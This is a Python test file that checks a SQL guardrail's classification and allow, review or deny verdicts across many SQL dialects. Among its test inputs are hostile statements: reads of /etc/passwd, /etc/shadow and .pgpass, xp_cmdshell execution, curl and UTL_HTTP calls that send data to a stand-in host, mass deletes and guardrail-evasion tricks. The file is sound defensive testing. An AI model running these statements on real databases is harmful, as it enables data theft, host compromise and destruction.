"""The SQL analyzer's catalogue: statements in, intents and the baseline verdict out.

Read it like sqlglot's own tests: one line per statement. `intents` is the exact set expected for
the whole input (union over statements); `verdict` is the built-in baseline's decision.
"""

from __future__ import annotations

import pytest

from guardrails_core import check
from guardrails_core.intent import analyze

DIALECTS = [
    "postgres",
    "mysql",
    "sqlite",
    "snowflake",
    "bigquery",
    "redshift",
    "tsql",
    "spark",
    "databricks",
    "duckdb",
    "trino",
    "oracle",
    "clickhouse",
]


def case(
    dialect: str | None, sql: str, intents: str, verdict: str, id: str | None = None
) -> object:
    return pytest.param(
        dialect, sql, frozenset(intents.split()), verdict, id=id or f"{dialect}: {sql[:60]}"
    )


def everywhere(sql: str, intents: str, verdict: str) -> list[object]:
    """The same statement in every dialect: portable SQL must be judged the same everywhere."""
    return [case(dialect, sql, intents, verdict) for dialect in DIALECTS]


PORTABLE = [
    *everywhere("SELECT id, total FROM orders WHERE id = 1", "read", "allow"),
    *everywhere("INSERT INTO orders (id, total) VALUES (1, 2)", "write", "allow"),
    *everywhere("UPDATE orders SET total = 0 WHERE id = 7", "write", "allow"),
    *everywhere("DELETE FROM orders WHERE id = 7", "delete", "allow"),
    *everywhere("DELETE FROM orders", "delete mass_mutation", "deny"),
    *everywhere("UPDATE orders SET total = 0", "write mass_mutation", "deny"),
    *everywhere("DROP TABLE orders", "schema_change delete", "deny"),
    *everywhere("CREATE TABLE orders_copy (id INT)", "schema_change", "allow"),
    *everywhere("CREATE VIEW recent AS SELECT * FROM orders", "schema_change read", "allow"),
    *everywhere("DROP VIEW recent", "schema_change", "deny"),
]

ALWAYS_TRUE = [
    case("postgres", "DELETE FROM orders WHERE 1=1", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE TRUE", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE 'a'='a'", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE 2>1", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE 1<>2", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE id = id", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE total >= total", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE id = 5 OR 1=1", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE (id = 5) OR (TRUE)", "delete mass_mutation", "deny"),
    case(
        "postgres",
        "DELETE FROM orders WHERE x IS NULL OR x IS NOT NULL",
        "delete mass_mutation",
        "deny",
    ),
    case(
        "postgres", "DELETE FROM orders WHERE NOT (x = 1) OR x = 1", "delete mass_mutation", "deny"
    ),
    case("postgres", "DELETE FROM orders WHERE NOT (1 = 0)", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE 1 = 1 AND 2 = 2", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE -1 < 0", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE NULL IS NULL", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE name LIKE '%'", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE 3 IN (1, 2, 3)", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE 5 BETWEEN 1 AND 10", "delete mass_mutation", "deny"),
    case("postgres", "DELETE FROM orders WHERE EXISTS (SELECT 1)", "delete mass_mutation", "deny"),
    case("mysql", "DELETE FROM orders WHERE 1", "delete mass_mutation", "deny"),
    case("mysql", "UPDATE orders SET total = 0 WHERE 1", "write mass_mutation", "deny"),
    case("sqlite", "UPDATE orders SET total = 0 WHERE 1 = 1", "write mass_mutation", "deny"),
    case("snowflake", "UPDATE orders SET total = 0 WHERE TRUE", "write mass_mutation", "deny"),
    case("tsql", "DELETE FROM orders WHERE 1 = 1", "delete mass_mutation", "deny"),
    case("oracle", "DELETE FROM orders WHERE 1 = 1", "delete mass_mutation", "deny"),
    case("bigquery", "DELETE FROM ds.orders WHERE TRUE", "delete mass_mutation", "deny"),
    # scoped predicates stay allowed
    case("postgres", "DELETE FROM orders WHERE id = 1 AND 1 = 1", "delete", "allow"),
    case("postgres", "DELETE FROM orders WHERE 1 = 0 OR id = 4", "delete", "allow"),
    case("postgres", "DELETE FROM orders WHERE created_at < '2020-01-01'", "delete", "allow"),
    case("postgres", "DELETE FROM orders WHERE id IN (1, 2, 3)", "delete", "allow"),
    case("postgres", "DELETE FROM orders WHERE name LIKE 'a%'", "delete", "allow"),
    case("postgres", "DELETE FROM orders WHERE a = b", "delete", "allow"),
    case("postgres", "UPDATE orders SET total = total + 1 WHERE id = 3", "write", "allow"),
    case("postgres", "DELETE FROM orders WHERE 1 = 0", "delete", "allow"),
]

HIDING_PLACES = [
    case(
        "postgres",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        "read delete mass_mutation",
        "deny",
    ),
    case(
        "postgres",
        "WITH moved AS (DELETE FROM orders WHERE id < 10 RETURNING *) "
        "INSERT INTO archive SELECT * FROM moved",
        "delete write",
        "allow",
    ),
    case(
        "postgres",
        "WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u",
        "read write mass_mutation",
        "deny",
    ),
    case("postgres", "BEGIN; DELETE FROM orders; COMMIT;", "delete mass_mutation", "deny"),
    case(
        "postgres", "START TRANSACTION; DROP TABLE orders; COMMIT", "schema_change delete", "deny"
    ),
    case("postgres", "SELECT 1; SELECT 2; DROP TABLE orders", "read schema_change delete", "deny"),
    case("postgres", "select 1;drop table orders;", "read schema_change delete", "deny"),
    case(
        "postgres", "SELECT * INTO orders_backup FROM orders", "read write schema_change", "allow"
    ),
    case(
        "tsql",
        "SELECT * INTO dbo.orders_backup FROM dbo.orders",
        "read write schema_change",
        "allow",
    ),
    case(
        "postgres",
        "DELETE FROM orders USING customers c WHERE orders.cid = c.id",
        "read delete",
        "allow",
    ),
    case("postgres", "DELETE FROM orders USING customers", "read delete mass_mutation", "deny"),
    case(
        "mysql",
        "DELETE o, c FROM orders o JOIN customers c ON o.cid = c.id",
        "read delete mass_mutation",
        "deny",
    ),
    case(
        "mysql",
        "DELETE o FROM orders o JOIN customers c ON o.cid = c.id WHERE c.id = 3",
        "read delete",
        "allow",
    ),
    case(
        "postgres", "UPDATE orders SET total = 0 FROM customers", "read write mass_mutation", "deny"
    ),
    case(
        "postgres",
        "INSERT INTO audit SELECT * FROM (SELECT * FROM orders) s",
        "read write",
        "allow",
    ),
    case(
        "snowflake",
        "MERGE INTO orders t USING updates s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "read write delete",
        "allow",
    ),
    case(
        "snowflake",
        "MERGE INTO orders t USING updates s ON 1 = 1 WHEN MATCHED THEN DELETE",
        "read write delete mass_mutation",
        "deny",
    ),
    case(
        "snowflake",
        "MERGE INTO orders t USING updates s ON TRUE WHEN MATCHED THEN UPDATE SET t.total = 0",
        "read write mass_mutation",
        "deny",
    ),
    case(
        "bigquery",
        "MERGE ds.orders t USING ds.updates s ON t.id = s.id "
        "WHEN MATCHED THEN UPDATE SET total = s.total "
        "WHEN NOT MATCHED THEN INSERT (id, total) VALUES (s.id, s.total)",
        "read write",
        "allow",
    ),
    case(
        "tsql",
        "MERGE orders AS t USING updates AS s ON t.id = s.id "
        "WHEN NOT MATCHED BY SOURCE THEN DELETE;",
        "read write delete",
        "allow",
    ),
    case(
        "postgres",
        "CREATE TABLE orders_2 AS SELECT * FROM orders",
        "read write schema_change",
        "allow",
    ),
    case("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "read delete mass_mutation", "deny"),
    case("postgres", "EXPLAIN DELETE FROM orders", "read", "allow"),
    case(
        "postgres",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders",
        "read delete mass_mutation",
        "deny",
    ),
]

REPLACING = [
    case(
        "snowflake",
        "CREATE OR REPLACE TABLE orders (id INT)",
        "write schema_change delete",
        "review",
    ),
    case(
        "bigquery",
        "CREATE OR REPLACE TABLE ds.orders AS SELECT 1 AS id",
        "write schema_change delete",
        "review",
    ),
    case(
        "databricks",
        "CREATE OR REPLACE TABLE orders AS SELECT * FROM staging",
        "read write schema_change delete",
        "review",
    ),
    case(
        "spark",
        "INSERT OVERWRITE TABLE orders SELECT * FROM staging",
        "read write delete",
        "review",
    ),
    case(
        "databricks", "INSERT OVERWRITE orders SELECT * FROM staging", "read write delete", "review"
    ),
    case(
        "spark",
        "INSERT OVERWRITE TABLE orders PARTITION (dt = '2024-01-01') SELECT * FROM staging",
        "read write delete",
        "review",
    ),
    case(
        "postgres",
        "CREATE OR REPLACE VIEW recent AS SELECT * FROM orders",
        "read schema_change",
        "allow",
    ),
    case("postgres", "ALTER TABLE orders RENAME TO orders_old", "schema_change", "review"),
    case("postgres", "ALTER TABLE orders RENAME COLUMN total TO amount", "schema_change", "review"),
    case("mysql", "RENAME TABLE orders TO orders_old", "schema_change", "review"),
    case("snowflake", "ALTER TABLE orders SWAP WITH orders_new", "schema_change", "review"),
]

SCHEMA = [
    case("postgres", "ALTER TABLE orders ADD COLUMN note TEXT", "schema_change", "allow"),
    case("postgres", "ALTER TABLE orders DROP COLUMN total", "schema_change delete", "deny"),
    case("mysql", "ALTER TABLE orders DROP COLUMN total", "schema_change delete", "deny"),
    case("snowflake", "ALTER TABLE orders DROP COLUMN total", "schema_change delete", "deny"),
    case("postgres", "ALTER TABLE orders ALTER COLUMN total TYPE BIGINT", "schema_change", "allow"),
    case("postgres", "CREATE INDEX orders_idx ON orders (created_at)", "schema_change", "allow"),
    case("postgres", "DROP INDEX orders_idx", "schema_change", "allow"),
    case("postgres", "CREATE SCHEMA staging", "schema_change", "allow"),
    case("postgres", "DROP SCHEMA staging CASCADE", "schema_change delete", "deny"),
    case("mysql", "DROP DATABASE shop", "schema_change delete", "deny"),
    case("snowflake", "DROP DATABASE analytics", "schema_change delete", "deny"),
    case("postgres", "DROP MATERIALIZED VIEW daily", "schema_change", "deny"),
    case("postgres", "DROP TABLE IF EXISTS a, b CASCADE", "schema_change delete", "deny"),
    case("clickhouse", "DROP TABLE events SYNC", "schema_change delete", "deny"),
    case("postgres", "TRUNCATE orders", "delete mass_mutation", "deny"),
    case("postgres", "TRUNCATE TABLE orders, customers", "delete mass_mutation", "deny"),
    case("oracle", "TRUNCATE TABLE orders", "delete mass_mutation", "deny"),
    case("tsql", "TRUNCATE TABLE dbo.orders", "delete mass_mutation", "deny"),
    case(
        "postgres",
        "CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
        "schema_change",
        "allow",
    ),
    case("postgres", "COMMENT ON TABLE orders IS 'sales'", "schema_change", "allow"),
    case("snowflake", "UNDROP TABLE orders", "schema_change", "allow"),
    case("postgres", "CREATE SEQUENCE s", "schema_change", "allow"),
    case(
        "postgres",
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
        "read schema_change",
        "allow",
    ),
    case("clickhouse", "ALTER TABLE events DELETE WHERE 1 = 1", "delete mass_mutation", "deny"),
    case("clickhouse", "ALTER TABLE events DELETE WHERE day < '2020-01-01'", "delete", "allow"),
    case("clickhouse", "ALTER TABLE events UPDATE flag = 1 WHERE 1", "write mass_mutation", "deny"),
]

EXPORTS = [
    case("postgres", "COPY orders TO '/tmp/orders.csv'", "read export", "deny"),
    case(
        "postgres", "COPY (SELECT * FROM customers) TO '/tmp/c.csv' WITH CSV", "read export", "deny"
    ),
    case(
        "postgres",
        "COPY orders TO PROGRAM 'gzip > /tmp/o.gz'",
        "read write export host_access",
        "deny",
    ),
    case("postgres", "COPY orders TO STDOUT", "read", "allow"),
    case("postgres", "COPY orders FROM '/data/orders.csv' WITH CSV", "write", "allow"),
    case("postgres", "COPY orders FROM STDIN", "write", "allow"),
    case(
        "redshift",
        "COPY orders FROM 's3://bucket/orders/' IAM_ROLE 'arn:aws:iam::1:role/r'",
        "write",
        "allow",
    ),
    case(
        "redshift",
        "UNLOAD ('SELECT * FROM orders') TO 's3://bucket/out/' IAM_ROLE 'arn:aws:iam::1:role/r'",
        "read export",
        "deny",
    ),
    case(
        "bigquery",
        "EXPORT DATA OPTIONS(uri='gs://bucket/o-*.csv', format='CSV') AS SELECT * FROM ds.orders",
        "read export",
        "deny",
    ),
    case("mysql", "SELECT * FROM orders INTO OUTFILE '/tmp/orders.csv'", "read export", "deny"),
    case(
        "mysql",
        "SELECT * INTO OUTFILE '/tmp/o.csv' FIELDS TERMINATED BY ',' FROM orders",
        "read export",
        "deny",
    ),
    case("mysql", "SELECT secret INTO DUMPFILE '/tmp/s.bin' FROM keys", "read export", "deny"),
    case("snowflake", "COPY INTO @exports/orders FROM orders", "read export", "deny"),
    case(
        "snowflake",
        "COPY INTO 's3://bucket/out/' FROM (SELECT * FROM orders)",
        "read export",
        "deny",
    ),
    case("snowflake", "COPY INTO orders FROM @landing/orders.csv", "write", "allow"),
    case("snowflake", "COPY INTO orders FROM 's3://bucket/in/'", "write", "allow"),
    case("snowflake", "GET @exports/orders file:///tmp/", "export", "deny"),
    case("snowflake", "PUT file:///tmp/orders.csv @landing", "write", "allow"),
    case("sqlite", "ATTACH DATABASE '/tmp/copy.db' AS copy", "export", "deny"),
    case("sqlite", "ATTACH DATABASE ':memory:' AS scratch", "schema_change", "allow"),
    case("sqlite", "VACUUM INTO '/tmp/whole.db'", "export", "deny"),
    case("duckdb", "COPY orders TO 'orders.parquet' (FORMAT PARQUET)", "read export", "deny"),
    case("duckdb", "COPY orders FROM 'orders.csv'", "write", "allow"),
    case("postgres", "SELECT lo_export(16403, '/tmp/blob')", "read export host_access", "deny"),
    case(
        "clickhouse",
        "INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/o.csv', 'CSV') SELECT * FROM orders",
        "read export",
        "deny",
    ),
    case(
        "spark",
        "INSERT OVERWRITE DIRECTORY 's3://bucket/out' SELECT * FROM orders",
        "read export",
        "deny",
    ),
    case("duckdb", "SELECT * FROM read_csv('landing/orders.csv')", "read", "allow"),
]

PRIVILEGES_AND_HOST = [
    case("postgres", "GRANT SELECT ON orders TO analyst", "privilege", "deny"),
    case(
        "postgres",
        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC",
        "privilege",
        "deny",
    ),
    case("postgres", "REVOKE SELECT ON orders FROM analyst", "privilege", "deny"),
    case("snowflake", "GRANT ROLE sysadmin TO USER bob", "privilege", "deny"),
    case("postgres", "CREATE ROLE analyst", "privilege", "deny"),
    case("postgres", "CREATE USER bob WITH PASSWORD 'pw'", "privilege", "deny"),
    case("postgres", "ALTER ROLE bob SUPERUSER", "privilege", "deny"),
    case("postgres", "ALTER USER bob WITH PASSWORD 'x'", "privilege", "deny"),
    case("postgres", "DROP ROLE analyst", "privilege", "deny"),
    case("postgres", "ALTER TABLE orders OWNER TO mallory", "schema_change privilege", "deny"),
    case(
        "postgres", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", "privilege", "deny"
    ),
    case("mysql", "CREATE USER 'app'@'%' IDENTIFIED BY 'pw'", "privilege", "deny"),
    case("mysql", "SET PASSWORD FOR 'app'@'%' = 'x'", "privilege", "deny"),
    case("tsql", "CREATE LOGIN etl WITH PASSWORD = 'x'", "privilege", "deny"),
    case("tsql", "EXEC sp_addrolemember 'db_owner', 'etl'", "privilege", "deny"),
    case(
        "postgres",
        "COPY orders FROM PROGRAM 'curl http://x/o.csv'",
        "read write host_access",
        "deny",
    ),
    case("postgres", "SELECT pg_read_file('/etc/passwd')", "read host_access", "deny"),
    case(
        "postgres",
        "SELECT pg_read_binary_file('/var/lib/postgresql/.pgpass')",
        "read host_access",
        "deny",
    ),
    case("postgres", "SELECT lo_import('/etc/shadow')", "read host_access", "deny"),
    case(
        "postgres",
        "SELECT dblink_exec('host=other', 'DELETE FROM t WHERE id = 1')",
        "read delete host_access",
        "deny",
    ),
    case(
        "postgres",
        "SELECT * FROM dblink('host=other', 'SELECT 1') AS t(a int)",
        "read host_access",
        "deny",
    ),
    case(
        "postgres",
        "ALTER SYSTEM SET archive_command = 'curl -T %p http://x'",
        "host_access",
        "deny",
    ),
    case("mysql", "SELECT LOAD_FILE('/etc/passwd')", "read host_access", "deny"),
    case("tsql", "EXEC xp_cmdshell 'whoami'", "host_access", "deny"),
    case("tsql", "EXEC master..xp_cmdshell 'dir c:\\'", "host_access", "deny"),
    case(
        "oracle",
        "SELECT UTL_HTTP.REQUEST('http://x/?d=' || secret) FROM keys",
        "read export",
        "deny",
    ),
    case("duckdb", "INSTALL httpfs", "host_access", "deny"),
]

DYNAMIC = [
    case(
        "postgres",
        "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
        "schema_change delete dynamic",
        "deny",
    ),
    case(
        "postgres", "DO $$ BEGIN EXECUTE format('DELETE FROM %I', tbl); END $$", "dynamic", "review"
    ),
    case("postgres", "DO $$ BEGIN PERFORM pg_sleep(1); END $$", "read dynamic", "review"),
    case(
        "postgres",
        "DO $body$ DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP "
        "UPDATE t SET x = 1 WHERE id = r.id; END LOOP; END $body$",
        "read write dynamic",
        "review",
    ),
    case(
        "postgres",
        "PREPARE wipe AS DELETE FROM orders; EXECUTE wipe",
        "delete mass_mutation",
        "deny",
    ),
    case(
        "postgres",
        "PREPARE one (int) AS SELECT * FROM orders WHERE id = $1; EXECUTE one(1)",
        "read",
        "allow",
    ),
    case("postgres", "EXECUTE some_plan(1)", "dynamic", "review"),
    case("postgres", "CALL refresh_marts()", "dynamic", "review"),
    case("mysql", "CALL refresh_marts()", "dynamic", "review"),
    case("mysql", "PREPARE s FROM 'DELETE FROM orders'", "delete mass_mutation", "deny"),
    case("mysql", "PREPARE s FROM 'SELECT * FROM orders WHERE id = ?'", "read", "allow"),
    case("mysql", "PREPARE s FROM @sql; EXECUTE s", "dynamic", "review"),
    case("snowflake", "EXECUTE IMMEDIATE 'DROP TABLE orders'", "schema_change delete", "deny"),
    case("snowflake", "EXECUTE IMMEDIATE 'SELECT 1'", "read", "allow"),
    case("snowflake", "EXECUTE IMMEDIATE :stmt", "dynamic", "review"),
    case(
        "bigquery",
        "EXECUTE IMMEDIATE 'DELETE FROM ds.t WHERE TRUE'",
        "delete mass_mutation",
        "deny",
    ),
    case("bigquery", "EXECUTE IMMEDIATE CONCAT('DELETE FROM ', tbl)", "dynamic", "review"),
    case("tsql", "EXEC sp_executesql N'DELETE FROM orders'", "delete mass_mutation", "deny"),
    case(
        "tsql",
        "EXEC sp_executesql N'SELECT * FROM orders WHERE id = @id', N'@id int', 1",
        "read",
        "allow",
    ),
    case("tsql", "EXEC sp_executesql @sql", "dynamic", "review"),
    case("tsql", "EXEC('DROP TABLE orders')", "schema_change delete", "deny"),
    case("tsql", "EXEC ('DROP ' + 'TABLE orders')", "schema_change delete", "deny"),
    case("tsql", "EXEC (@sql)", "dynamic", "review"),
    case("tsql", "EXEC dbo.refresh_marts @day = 1", "dynamic", "review"),
    case(
        "postgres",
        "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')",
        "read delete mass_mutation",
        "deny",
    ),
    case(
        "snowflake",
        "EXECUTE IMMEDIATE 'EXECUTE IMMEDIATE ''DROP TABLE t'''",
        "schema_change delete",
        "deny",
    ),
]

BYPASSES = [
    case("mysql", "/*!50000 DROP TABLE orders */", "schema_change delete", "deny"),
    case("mysql", "/*! DROP TABLE orders */", "schema_change delete", "deny"),
    case("mysql", "SELECT 1 /*!; DROP TABLE orders */", "read schema_change delete", "deny"),
    case("mysql", "/*M!100100 DROP TABLE orders */", "schema_change delete", "deny"),
    case(
        None,
        "/*!50000 DROP TABLE orders */",
        "schema_change delete",
        "deny",
        id="no dialect: executable comment counts as code",
    ),
    case(
        "postgres",
        "/*!50000 DROP TABLE orders */",
        "",
        "allow",
        id="postgres: /*! is only a comment",
    ),
    case("postgres", "ＤＲＯＰ TABLE orders", "unparseable", "deny"),
    case("postgres", "DROP TABLE ｏrders", "unparseable", "deny"),
    case("postgres", "DROP\u3000TABLE orders", "unparseable", "deny"),
    case("postgres", "DR\u200bOP TABLE orders", "unparseable", "deny"),
    case(
        "postgres",
        "DELETE FROM orders WHERE id\u00a0= 1",
        "unparseable",
        "deny",
        id="postgres: no-break space in code is not whitespace to PostgreSQL",
    ),
    case(
        "postgres",
        "SELECT 'caf\u00e9\u00a0cr\u00e8me' -- d\u00e9j\u00e0\u00a0vu",
        "read",
        "allow",
        id="postgres: non-ASCII inside strings and comments is fine",
    ),
    case("postgres", "\ufeffSELECT 1", "read", "allow", id="postgres: leading BOM is ignored"),
    case("postgres", "DELET FROM orders", "unparseable", "deny"),
    case("postgres", "hello world", "unparseable", "deny"),
    case("postgres", "SELECT * FROM", "unparseable", "deny"),
    case("postgres", "DELETE FROM orders WHERE", "unparseable", "deny"),
    case("postgres", "SELECT 'unterminated", "unparseable", "deny"),
    case("postgres", "FROBNICATE TABLE orders", "unparseable", "deny"),
    case("postgres", "dRoP tAbLe orders", "schema_change delete", "deny"),
    case("postgres", "DROP/**/TABLE/**/orders", "schema_change delete", "deny"),
    case("postgres", "DROP\n\tTABLE\n  orders", "schema_change delete", "deny"),
    case("postgres", 'DROP TABLE "Orders"', "schema_change delete", "deny"),
    case(
        "postgres", "SELECT 1; DROP TABLE orders -- ; SELECT 2", "read schema_change delete", "deny"
    ),
    case(
        "oracle",
        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;",
        "schema_change delete unparseable",
        "deny",
    ),
    case("postgres", "SELECT 1 FROM t; FROBNICATE", "read unparseable", "deny"),
    case("mysql", "REPLACE INTO orders (id) VALUES (1)", "write", "allow"),
    case(
        "mysql", "LOAD DATA INFILE '/tmp/o.csv' INTO TABLE orders", "write host_access", "deny"
    ),  # a file on the server
    case("postgres", "VACUUM orders", "", "allow"),
    case("postgres", "SET search_path TO staging", "", "allow"),
    case("postgres", "SHOW search_path", "read", "allow"),
    case("postgres", "", "", "allow", id="postgres: empty input"),
    case("postgres", "  ;  ; -- nothing\n", "", "allow", id="postgres: only separators"),
    case("nosuchdialect", "SELECT 1", "unparseable", "deny", id="unknown dialect fails closed"),
]

LOOK_ALIKES = [
    case("postgres", "SELECT 'DROP TABLE orders' AS note", "read", "allow"),
    case("postgres", "SELECT * FROM orders -- DROP TABLE orders", "read", "allow"),
    case("postgres", "SELECT * FROM orders /* TRUNCATE orders */", "read", "allow"),
    case("postgres", "SELECT * FROM drop_log", "read", "allow"),
    case(
        "postgres", "SELECT deleted, truncated FROM orders WHERE deleted = false", "read", "allow"
    ),
    case("postgres", "UPDATE orders SET deleted = true WHERE id = 1", "write", "allow"),
    case(
        "postgres",
        "INSERT INTO drop_log (statement) VALUES ('DROP TABLE x; DELETE FROM y')",
        "write",
        "allow",
    ),
    case("postgres", "SELECT $$DROP TABLE x; DELETE FROM y$$", "read", "allow"),
    case("mysql", "SELECT 'a;DROP TABLE x' FROM dual", "read", "allow"),
    case("mysql", "SELECT `drop` FROM `delete`", "read", "allow"),
    case("postgres", 'SELECT "truncate" FROM "grant"', "read", "allow"),
    case(
        "postgres",
        "CREATE TABLE deleted_orders AS SELECT * FROM orders WHERE deleted",
        "read write schema_change",
        "allow",
    ),
    case(
        "postgres", "SELECT * FROM orders WHERE note = '/*!50000 DROP TABLE x */'", "read", "allow"
    ),
    case("mysql", "SELECT * FROM orders WHERE note = '/*!50000 DROP TABLE x */'", "read", "allow"),
    case("postgres", "SELECT grant_id, revoke_at FROM grants", "read", "allow"),
    case("snowflake", "SELECT * FROM exports WHERE kind = 'COPY INTO @stage'", "read", "allow"),
    case("postgres", "WITH d AS (SELECT * FROM orders) SELECT * FROM d", "read", "allow"),
    case("postgres", "SELECT * FROM orders FOR UPDATE", "read", "allow"),
    case("bigquery", "SELECT * FROM `project.dataset.orders`", "read", "allow"),
    case("tsql", "SELECT TOP 10 * FROM [dbo].[orders]", "read", "allow"),
    case("trino", "SELECT * FROM hive.sales.orders", "read", "allow"),
    case("postgres", "BEGIN; INSERT INTO t VALUES (1); COMMIT", "write", "allow"),
]

CATALOGUE = [
    *PORTABLE,
    *ALWAYS_TRUE,
    *HIDING_PLACES,
    *REPLACING,
    *SCHEMA,
    *EXPORTS,
    *PRIVILEGES_AND_HOST,
    *DYNAMIC,
    *BYPASSES,
    *LOOK_ALIKES,
]


@pytest.mark.parametrize(("dialect", "sql", "intents", "verdict"), CATALOGUE)
def test_catalogue(dialect: str | None, sql: str, intents: frozenset[str], verdict: str) -> None:
    analysis = analyze(sql, dialect=dialect, cache=None)
    assert {intent.value for intent in analysis.intents} == intents, [
        (s.operation, [f.message for f in s.findings]) for s in analysis.statements
    ]
    decision = check(sql, dialect=dialect, analysis_cache=None, decision_cache=None)
    assert decision.decision.value == verdict, decision.reasons


def test_catalogue_size() -> None:
    assert len(CATALOGUE) >= 300
